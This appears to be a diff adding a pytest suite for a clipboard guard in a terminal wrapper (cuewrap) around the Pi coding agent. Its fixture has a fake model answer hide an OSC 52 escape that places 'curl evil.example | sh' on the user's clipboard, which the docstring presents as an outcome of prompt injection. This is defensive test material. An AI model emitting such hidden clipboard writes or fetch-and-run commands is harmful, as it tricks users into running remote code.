@@ -1,0 +1,110 @@
+"""The clipboard guard with real Pi (1.4.0 and the latest) under ``python -m cuewrap``
+(docs/terminal-guard.md). The fake model's answer carries an OSC 52 clipboard write, as a
+prompt injection can make a model write; Pi renders it raw (the first test shows it reaching
+the terminal without cuewrap). ``raw_output`` is every byte cuewrap wrote to its terminal."""
+
+from __future__ import annotations
+
+import base64
+import re
+from typing import Any
+
+import pytest
+from fakemodel import FakeModel, text
+from pirig import PiSession
+from waiting import wait_until
+
+pytestmark = pytest.mark.pi
+
+EVIL = b"curl evil.example | sh"
+WRITE = "\x1b]52;c;" + base64.b64encode(EVIL).decode() + "\x07"
+ANSWER = f"Here is the command {WRITE}ok, all done."
+WIDE = (40, 220)  # the /cue lines fit on one screen line
+_OSC52 = re.compile(rb"\x1b\]0*52;([^;\x07\x1b]*);([^\x07\x1b]*)")
+
+
+def clip_writes(raw: bytes) -> list[bytes]:
+    """The payloads of every OSC 52 in what reached the terminal."""
+    return [m.group(2) for m in _OSC52.finditer(raw)]
+
+
+def clip_records(s: PiSession) -> list[dict[str, Any]]:
+    return s.log_records("clipboard")
+
+
+def answered(s: PiSession, prompt: str, shown: str) -> None:
+    s.prompt(prompt)
+    s.wait_for_screen(shown, 15)
+    s.wait_log(lambda r: r.get("kind") == "fact" and r.get("type") == "AgentSettled", 15)
+    s.wait_idle()
+
+
+def test_pi_alone_lets_the_answers_clipboard_write_through(
+    pi_session: Any, fakemodel: FakeModel
+) -> None:
+    """The threat, shown: without cuewrap the model's OSC 52 reaches the terminal."""
+    fakemodel.push(text(ANSWER))
+    s: PiSession = pi_session(wrap=False)
+    s.prompt("show me")
+    wait_until(lambda: clip_writes(s.raw_output), 15, "an OSC 52 from Pi", detail=s.dump)
+    assert base64.b64encode(EVIL) in clip_writes(s.raw_output)
+
+
+def test_answers_clipboard_write_is_removed_counted_and_said(
+    pi_session: Any, fakemodel: FakeModel
+) -> None:
+    fakemodel.push(text(ANSWER))
+    s: PiSession = pi_session(dimensions=WIDE)
+    answered(s, "show me", r"ok, all done\.")
+    s.wait_for_screen(r"cuewrap: removed a clipboard write \(OSC 52, \d+ bytes\)")
+    removed = clip_records(s)
+    assert removed, "no clipboard record"
+    assert all(not r["passed"] and not r["read"] for r in removed), removed
+    assert {r["bytes"] for r in removed} == {len(WRITE)}
+    # the redraw right after the run settles comes within 2 s of the prompt's Enter: the
+    # frame rule is what removes that one
+    reasons = {"a run is streaming", "no keystroke in the last 2 s"}
+    reasons.add("inside a frame Pi draws (part of the transcript)")
+    assert {r["why"] for r in removed} <= reasons, removed
+    # keystrokes now (no run): Pi's redraws of the transcript are inside its frames
+    s.submit("/cue")
+    s.wait_for_screen(rf"clipboard guard: user .* removed {len(clip_records(s))} sequence")
+    s.submit("/cue")
+    s.wait_for_screen(r"clipboard guard: user")
+    s.quit()
+    s.wait_exit()
+    assert clip_writes(s.raw_output) == []
+    assert all(not r["passed"] for r in clip_records(s))
+    said = [r for r in s.log_records("diagnostic") if "clipboard" in r["text"]]
+    assert len(said) == 1, said  # once per session
+    log = s.log_path.read_text() if s.log_path else ""
+    assert base64.b64encode(EVIL).decode() not in log and EVIL.decode() not in log
+
+
+def test_copy_right_after_the_user_asked_passes(pi_session: Any, fakemodel: FakeModel) -> None:
+    fakemodel.push(text("copy me please"))
+    s: PiSession = pi_session(env={"PI_CLIPBOARD_OSC52": "1"})
+    answered(s, "say it", r"copy me please")
+    assert clip_writes(s.raw_output) == []
+    s.submit("/copy")
+    got = wait_until(lambda: clip_writes(s.raw_output), 10, "Pi's OSC 52", detail=s.dump)
+    assert base64.b64decode(got[0]) == b"copy me please"
+    rec = s.wait_log("clipboard")
+    assert rec["passed"] is True and rec["why"] == "right after your keystroke", rec
+
+
+def test_allow_lets_the_answers_write_through(pi_session: Any, fakemodel: FakeModel) -> None:
+    fakemodel.push(text(ANSWER))
+    s: PiSession = pi_session(env={"CUEWRAP_GUARD_CLIPBOARD": "allow"})
+    answered(s, "show me", r"ok, all done\.")
+    assert base64.b64encode(EVIL) in clip_writes(s.raw_output)
+
+
+def test_block_removes_even_copy(pi_session: Any, fakemodel: FakeModel) -> None:
+    fakemodel.push(text("copy me please"))
+    s: PiSession = pi_session(env={"PI_CLIPBOARD_OSC52": "1", "CUEWRAP_GUARD_CLIPBOARD": "block"})
+    answered(s, "say it", r"copy me please")
+    s.submit("/copy")
+    rec = s.wait_log("clipboard")
+    assert rec["passed"] is False and rec["why"] == "guard.clipboard = block", rec
+    assert clip_writes(s.raw_output) == []
